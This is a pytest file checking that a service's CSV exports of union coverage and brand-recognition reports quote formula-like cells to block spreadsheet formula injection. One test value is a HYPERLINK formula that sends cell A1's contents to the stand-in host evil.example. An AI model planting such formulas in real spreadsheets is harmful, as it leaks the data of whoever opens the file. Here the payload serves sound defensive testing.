"""Every CSV the service writes guards against formula injection (one guard, handlers/cells.py)."""

from __future__ import annotations

import csv
import io

import pytest

from handlers.cells import safe_cell
from handlers.programme.coverage import CoverageReport, MissingUnit, QuietBrand, as_csv
from handlers.recognition.report_text import csv_text

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点这里")'


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"])
def test_formula_text_is_quoted(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", [-3, 2.5, 0, None, "工惠乐学", "a=b"])
def test_other_values_are_unchanged(value: object) -> None:
    assert safe_cell(value) == value


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for c in row]


def test_coverage_csv_is_guarded() -> None:
    report = CoverageReport(root="省总工会", generated_at="2026-11-23")
    report.missing.append(MissingUnit(code="C1", name=EVIL, kind="县级工会", expected="1 个"))
    report.quiet.append(QuietBrand(EVIL, "C2", "市总工会", "培育创建", None, 61))
    cells = _cells(as_csv(report))
    assert "'" + EVIL in cells and EVIL not in cells


def test_recognition_csv_is_guarded() -> None:
    brand = {
        "brand": EVIL,
        "index": 62.4,
        "ci": [58.0, 66.8],
        "status": "正常",
        "tier": None,
        "rank_range": [2, 4],
        "ratings": 300,
        "heat": 12,
        "suspect": 0,
        "index_with_suspects": None,
    }
    report = {"campaign": "-2026 年评议", "brands": [brand], "method_version": "1.0", "disclosure": "说明"}
    cells = _cells(csv_text(report))
    assert "'" + EVIL in cells and "'-2026 年评议" in cells and EVIL not in cells
